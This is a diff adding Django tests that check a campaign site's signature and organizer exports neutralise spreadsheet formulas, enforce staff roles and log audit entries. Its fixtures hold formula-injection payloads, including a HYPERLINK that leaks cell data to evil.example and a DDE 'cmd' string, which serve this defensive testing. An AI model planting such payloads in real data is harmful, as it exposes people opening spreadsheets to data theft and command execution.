@@ -1,0 +1,87 @@
+"""Exports: columns by role, audited, and never a formula in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import pytest
+
+from stopalprs.lib import crypto
+from stopalprs.organizing.models import Organizer
+from stopalprs.privacy.models import AuditEntry
+from stopalprs.signatures.models import Signature
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+@pytest.fixture
+def signature(campaign) -> Signature:
+    return Signature.objects.create(
+        campaign=campaign, first_name=FORMULA, last_name="+1+cmd|' /C calc'!A0",
+        email="mallory@example.org", email_index=crypto.blind_index("mallory@example.org"),
+        zip_code="94110", state="CA", district="CA-11", comment="@SUM(1+1)",
+    )  # fmt: skip
+
+
+def content(response) -> bytes:
+    if response.streaming:
+        return b"".join(response.streaming_content)
+    return response.content
+
+
+def test_csv_export_neutralizes_formulas(staff_client, signature):
+    response = staff_client().get("/staff/c/stop-alprs/signatures.csv")
+    rows = list(csv.DictReader(io.StringIO(content(response).decode())))
+    assert rows[0]["first_name"] == "'" + FORMULA  # shown as text by every spreadsheet
+    assert rows[0]["last_name"].startswith("'+")
+    assert rows[0]["comment"] == "'@SUM(1+1)"
+    assert rows[0]["email"] == "mallory@example.org"
+    assert response["Cache-Control"] == "no-store"
+    entry = AuditEntry.objects.get()
+    assert entry.action == "export" and entry.record_count == 1
+
+
+def test_xlsx_export_writes_text_cells_never_formulas(staff_client, signature):
+    response = staff_client().get("/staff/c/stop-alprs/signatures.xlsx")
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    book = zipfile.ZipFile(io.BytesIO(content(response)))
+    sheet = book.read("xl/worksheets/sheet1.xml").decode()
+    strings = sheet + (book.read("xl/sharedStrings.xml").decode()
+                       if "xl/sharedStrings.xml" in book.namelist() else "")  # fmt: skip
+    assert "<f>" not in sheet  # no cell holds a formula
+    # An inline string cell (t="inlineStr"): text, whatever it starts with.
+    assert '<is><t>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click")</t></is>' in strings
+    assert AuditEntry.objects.get().action == "export"
+
+
+def test_unknown_formats_are_not_found(staff_client, signature):
+    assert staff_client().get("/staff/c/stop-alprs/signatures.pdf").status_code == 404
+
+
+def test_organizer_export_needs_the_organizer_role(staff_client):
+    Organizer.objects.create(
+        name="=cmd", email="o@example.org", email_index=crypto.blind_index("o@example.org"),
+        city="Austin", state="TX", zip_code="78701", role="resident", uses_alpr="yes",
+        vendor="flock", stage="vote", confirmed_at="2026-11-01T00:00:00Z",
+    )  # fmt: skip
+    assert staff_client("Aggregates only").get("/staff/organizers.csv").status_code == 403
+    network = staff_client("Organizer network", name="olga")
+    rows = list(csv.DictReader(io.StringIO(content(network.get("/staff/organizers.csv")).decode())))
+    assert rows[0]["name"] == "'=cmd" and rows[0]["city"] == "Austin"
+    assert AuditEntry.objects.get().object_type == "organizer"
+
+
+def test_the_command_line_export_is_audited_and_personal_only_when_asked(signature, tmp_path):
+    from django.core.management import call_command
+
+    out = tmp_path / "s.csv"
+    call_command("export_signatures", "stop-alprs", "--out", str(out), stdout=io.StringIO())
+    assert out.read_text().splitlines()[0] == "zip_code,state,district,source,status,signed_on"
+    call_command("export_signatures", "stop-alprs", "--out", str(out), "--personal",
+                 "--format", "xlsx", stdout=io.StringIO())  # fmt: skip
+    assert "mallory@example.org" in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
+    assert AuditEntry.objects.filter(action="export").count() == 2
